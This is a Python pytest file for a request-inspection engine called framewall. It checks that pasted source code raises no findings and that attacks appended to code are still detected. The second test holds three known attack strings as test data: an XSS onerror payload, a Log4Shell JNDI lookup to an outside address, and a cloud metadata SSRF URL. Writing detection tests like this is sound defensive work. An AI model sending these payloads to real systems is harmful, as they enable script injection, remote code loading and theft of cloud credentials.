"""Source code passes where people share it, and what is no attack in any reading passes everywhere."""

from __future__ import annotations

import json
import random
from collections.abc import Callable

import pytest
from benches.detection.grammar import code

from framewall._core import Settings
from framewall.detect import builtin_engine


@pytest.mark.parametrize("shared", [True, False])
@pytest.mark.parametrize("kind", code.KINDS)
def test_pasted_code_is_no_attack(kind: Callable[[random.Random], str], shared: bool) -> None:
    draw, settings = random.Random(kind.__name__), Settings(code=shared)
    for text in [kind(draw) for _ in range(60)]:
        body = json.dumps({"type": "msg", "text": text}).encode()
        report = builtin_engine().inspect([(body, "json", False)], settings)
        assert report.findings == [], text


@pytest.mark.parametrize("kind", code.KINDS)
def test_an_attack_behind_code_is_found_where_it_is_shared(kind: Callable[[random.Random], str]) -> None:
    draw = random.Random(kind.__name__)
    for attack in (
        "<img src=x onerror=alert(1)>",
        "${jndi:ldap://203.0.113.9/a}",
        "http://169.254.169.254/latest/",
    ):
        body = json.dumps({"type": "msg", "text": f"{kind(draw)}\n{attack}"}).encode()
        assert builtin_engine().inspect([(body, "json", False)], Settings(code=True)).score >= 5, attack
